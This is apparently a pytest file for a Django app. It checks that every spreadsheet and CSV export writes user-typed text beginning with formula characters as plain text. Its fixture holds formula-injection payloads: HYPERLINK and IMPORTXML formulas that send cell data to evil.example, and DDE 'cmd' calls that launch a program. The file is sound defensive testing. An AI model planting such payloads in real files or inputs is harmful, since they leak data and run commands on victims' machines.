"""Every file Rantau writes is formula-safe (issue 13, item 8): every export route runs with names and
notes that start like a formula, and the files are opened again with openpyxl / csv: no cell is a
formula, and each value is kept as text.

The routes are collected from the URLconf: a view whose code (or a helper of its module it calls)
writes XLSX or CSV is an export, and must be in EXPORTS below, so a new export cannot be missed.
"""

import csv
import inspect
import io
import re
from datetime import timedelta

import pytest
from django.urls import resolve, reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.test_url_walker import ALL_URLS, _concrete

# One value per kind of text a user or a partner types, each starting with a formula character.
HOSTILE = {
    "programme": '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "cohort": "+cmd|' /C calc'!A0",
    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "employer": "-2+3+cmd|' /C calc'!A0",
    "occupation": "=1+2",
    "provider": '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "summary": "-10+20 wages short",
    "source": "\t=1+1 after a tab",
    "reason": "\r=2+2 after a carriage return",
}

# Views that serve an uploaded file as it was checked (PDF, JPEG, PNG), not a file Rantau writes.
UPLOADED_FILE_DOWNLOADS = {
    "candidates:document_download",
    "protection:case_document_download",
    "programmes:agreement_document",
}

# url name -> the exports it serves: (args kind, query, format, hostile values the file must hold).
EXPORTS = {
    "candidates:candidate_export": [
        (None, {"format": "xlsx"}, "xlsx", {"name"}),
        (None, {"format": "csv"}, "csv", {"name"}),
    ],
    "candidates:candidate_export_start": "job",  # a long export: the job's file (jobs:user_job_download)
    "jobs:user_job_download": "job",
    "candidates:candidate_import_template": [("xlsx", {}, "xlsx", set()), ("csv", {}, "csv", set())],
    "placements:cohort_manifest": [("cohort", {}, "xlsx", {"name", "cohort", "programme", "employer", "occupation"})],
    "placements:cohort_national_export": [
        ("cohort_xlsx", {}, "xlsx", {"name", "employer"}),
        ("cohort_csv", {}, "csv", {"name", "employer"}),
    ],
    "home": [
        (None, {"export": "programmes"}, "xlsx", {"programme"}),
        (None, {"export": "cohorts"}, "xlsx", {"cohort"}),
    ],
    "national": [
        (None, {"export": "municipalities"}, "xlsx", set()),
        (None, {"export": "programmes"}, "xlsx", {"programme"}),
    ],
    "programme_detail": [
        ("programme", {"export": key}, "xlsx", hostile)
        for key, hostile in [
            ("funnel", {"programme"}),
            ("occupations", {"programme", "occupation"}),
            ("sex", {"programme"}),
            ("age", {"programme"}),
            ("kecamatan", {"programme"}),
            ("education", {"programme"}),
            ("months", {"programme"}),
            ("providers", {"programme", "provider"}),
            ("early_ends", {"programme"}),
        ]
    ],
    "protection:dashboard": [
        (None, {"format": "xlsx"}, "xlsx", {"programme"}),
        (None, {"format": "xlsx", "group": "cohort"}, "xlsx", {"cohort"}),
    ],
    "protection:programme_summary": [("programme", {"format": "xlsx"}, "xlsx", {"cohort"})],
    "protection:case_list": [(None, {"format": "xlsx"}, "xlsx", {"name", "programme", "cohort", "summary"})],
    "protection:worker_list": [(None, {"format": "xlsx"}, "xlsx", {"name", "programme", "cohort"})],
    "protection:hold_list": [(None, {"format": "xlsx"}, "xlsx", {"programme", "reason", "source"})],
    "privacy:request_report_xlsx": [("data_request", {}, "xlsx", {"name"})],
    "scholarships:results_xlsx": [("round", {}, "xlsx", {"name"})],
}

_WRITES_A_FILE = re.compile(r"xlsx|csv|FileResponse")


def _source_with_helpers(func, depth: int = 2) -> str:
    """The view's code and that of the functions of its module it calls (two levels)."""
    func = inspect.unwrap(func)
    source = inspect.getsource(func)
    if depth == 0:
        return source
    module = inspect.getmodule(func)
    for name in set(re.findall(r"(?<![.\w])(_?[a-z]\w*)\(", source)):
        helper = getattr(module, name, None)
        if inspect.isfunction(helper) and helper.__module__ == module.__name__ and helper is not func:
            source += _source_with_helpers(helper, depth - 1)
    return source


def _file_views() -> set[str]:
    found = set()
    for name, pattern in ALL_URLS:
        if not name or name.startswith(("admin:", "api:")) or pattern.startswith(("admin/", "static/")):
            continue
        match = resolve(_concrete(pattern))
        if _WRITES_A_FILE.search(_source_with_helpers(match.func)):
            found.add(name)
    return found


def test_every_view_that_writes_a_file_is_an_export_run_below():
    found = _file_views()
    assert len(found) >= 15
    assert found - UPLOADED_FILE_DOWNLOADS == set(EXPORTS), (
        f"new: {sorted(found - UPLOADED_FILE_DOWNLOADS - set(EXPORTS))}; gone: {sorted(set(EXPORTS) - found)}"
    )


def test_no_module_writes_a_spreadsheet_but_the_one_writer():
    """core.spreadsheets is the only code that creates a Workbook or a csv.writer for output."""
    from pathlib import Path

    from django.apps import apps

    root = Path(__file__).resolve().parent.parent
    ours = [Path(app.path) for app in apps.get_app_configs() if Path(app.path).is_relative_to(root)]
    assert len(ours) >= 10
    offenders = []
    for folder in [*ours, root / "config"]:
        for path in folder.rglob("*.py"):
            relative = path.relative_to(root).as_posix()
            if relative == "core/spreadsheets.py" or "/migrations/" in relative:
                continue
            if re.search(r"Workbook\(|WriteOnlyCell|csv\.writer|csv\.DictWriter", path.read_text()):
                offenders.append(relative)
    assert offenders == []


# --- the data and the run -------------------------------------------------------------------------


@pytest.fixture
def private_storage(settings, tmp_path):
    root = tmp_path / "private"
    root.mkdir()
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(root)}},
    }
    return root


@pytest.fixture
def hostile_records(serang, serang_staff, serang_official):
    from programmes.models import AgreementStage
    from protection import services as protection_services
    from protection.models import Case, ProgrammeHold
    from tests.factories import (
        CandidateFactory,
        CohortFactory,
        DocumentFactory,
        EnrolmentFactory,
        OccupationFactory,
        PlacementFactory,
        ProgrammeFactory,
        TrainingBatchFactory,
        TrainingProviderFactory,
    )

    today = timezone.localdate()
    departed = today - timedelta(days=40)
    programme = ProgrammeFactory(
        name=HOSTILE["programme"], agreement__municipality=serang, agreement__stage=AgreementStage.ACTIVE
    )
    occupation = OccupationFactory(name=HOSTILE["occupation"], name_en=HOSTILE["occupation"])
    cohort = CohortFactory(
        programme=programme,
        municipality=serang,
        name=HOSTILE["cohort"],
        planned_departure=departed,
        actual_departure=departed,
        arrival_confirmed_on=departed,
        return_due_on=departed + timedelta(days=365),
    )
    # The home page's table lists the cohorts departing within 60 days.
    CohortFactory(programme=programme, municipality=serang, name=HOSTILE["cohort"], planned_departure=today)
    candidate = CandidateFactory(municipality=serang, full_name=HOSTILE["name"])
    DocumentFactory(candidate=candidate, doc_type="passport")
    placement = PlacementFactory(
        candidate=candidate,
        programme=programme,
        occupation=occupation,
        stage="abroad",
        cohort=cohort,
        departed_on=departed,
        employer=HOSTILE["employer"],
    )
    batch = TrainingBatchFactory(
        programme=programme,
        municipality=serang,
        provider=TrainingProviderFactory(municipality=serang, name=HOSTILE["provider"]),
    )
    EnrolmentFactory(batch=batch, placement=placement)
    protection_services.case_open(
        user=serang_staff,
        placement=placement,
        case_type=Case.Type.WAGES,
        severity=Case.Severity.HIGH,
        reported_by=Case.Reporter.FAMILY,
        reported_at=timezone.now() - timedelta(hours=2),
        summary=HOSTILE["summary"],
        description="",
    )
    ProgrammeHold.objects.create(
        programme=programme, held_on=today, reason=HOSTILE["reason"], source=HOSTILE["source"], recorded_by=serang_staff
    )
    return {
        "programme": programme.pk,
        "cohort": cohort.pk,
        "data_request": _hostile_data_request(serang_staff, candidate).pk,
        "round": _hostile_published_round(serang, serang_staff, serang_official).pk,
    }


def _hostile_data_request(staff, candidate):
    """An access request of the person with the hostile name: its data report as XLSX."""
    from privacy import services as privacy_services
    from privacy.models import DataRequest

    return privacy_services.data_request_create(
        user=staff,
        candidate=candidate,
        data={
            "kind": DataRequest.Kind.ACCESS,
            "received_at": timezone.now(),
            "channel": "counter",
            "identity_checked_by": staff,
            "identity_check": "KTP",
        },
    )


def _hostile_published_round(serang, staff, official):
    """A published scholarship round whose awarded applicant has the hostile name: the partner's XLSX."""
    from scholarships import services as scholarship_services
    from tests.factories import SelectionRoundFactory, scholarship_applicant, scholarship_programme
    from tests.scholarships.conftest import register, score_all, to_interviewed

    selection_round = SelectionRoundFactory(programme=scholarship_programme(agreement__municipality=serang))
    application = register(
        selection_round, staff, candidate=scholarship_applicant(municipality=serang, full_name=HOSTILE["name"])
    )
    to_interviewed(selection_round, staff, [application])
    scholarship_services.round_set_reviewers(user=staff, selection_round=selection_round, reviewers=[staff])
    score_all(staff, application, 90, 50)
    scholarship_services.round_approve(user=official, selection_round=selection_round)
    selection_round.refresh_from_db()
    return scholarship_services.round_publish(user=staff, selection_round=selection_round)


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _xlsx_texts(content: bytes) -> list[str]:
    """Every text cell of every sheet; fails on any formula cell."""
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith("=") or cell.data_type == "s"
                    texts.append(cell.value)
    assert texts, "an empty file"
    return texts


def _csv_texts(content: bytes) -> list[str]:
    """Every cell; fails on any that a spreadsheet would run as a formula."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    texts = [value for row in rows for value in row]
    assert texts, "an empty file"
    for value in texts:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), f"{value!r} would run as a formula"
    return texts


def _check(content: bytes, fmt: str, hostile: set[str], where: str) -> None:
    if fmt == "xlsx":
        texts = _xlsx_texts(content)
        for key in hostile:
            # The value itself, unchanged (no apostrophe added), as text; or a dashboard table's title
            # "<programme> – <table>". XML turns a carriage return into a line feed.
            expected = HOSTILE[key].replace("\r", "\n")
            kept = any(text == expected or text.startswith(f"{expected} – ") for text in texts)
            assert kept, f"{where}: {key} not kept as text"
    else:
        texts = _csv_texts(content)
        for key in hostile:
            assert "'" + HOSTILE[key] in texts, f"{where}: {key} not written as text"


def _url(name: str, kind, records) -> str:
    if kind is None:
        return reverse(name)
    if kind in ("xlsx", "csv"):
        return reverse(name, kwargs={"fmt": kind})
    if kind.startswith("cohort_"):
        return reverse(name, kwargs={"pk": records["cohort"], "fmt": kind.split("_")[1]})
    return reverse(name, args=[records[kind]])


@pytest.mark.django_db
def test_every_export_route_writes_formula_characters_as_text(
    staff_client, national_client, hostile_records, private_storage
):
    runs = 0
    for name, exports in EXPORTS.items():
        if exports == "job":
            continue
        client = national_client if name == "national" else staff_client
        for kind, query, fmt, hostile in exports:
            url = _url(name, kind, hostile_records)
            response = client.get(url, query)
            assert response.status_code == 200, f"{url} {query}: {response.status_code}"
            assert response["Content-Disposition"].startswith("attachment"), url
            _check(_content(response), fmt, hostile, f"{url} {query}")
            runs += 1
    assert runs >= 26


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_long_export_made_by_a_job_is_formula_safe_too(
    fmt, staff_client, hostile_records, private_storage, monkeypatch
):
    from candidates import exports
    from jobs.models import UserJob
    from tests.factories import CandidateFactory
    from tests.jobs.runner import run_jobs

    monkeypatch.setattr(exports, "IN_REQUEST_MAX_ROWS", 1)
    CandidateFactory(full_name=HOSTILE["employer"])
    started = staff_client.post(reverse("candidates:candidate_export_start") + f"?format={fmt}")
    assert started.status_code == 302
    assert run_jobs() == 1
    job = UserJob.objects.get()
    download = staff_client.get(reverse("jobs:user_job_download", args=[job.pk]))
    assert download.status_code == 200
    _check(_content(download), fmt, {"name", "employer"}, f"job {fmt}")
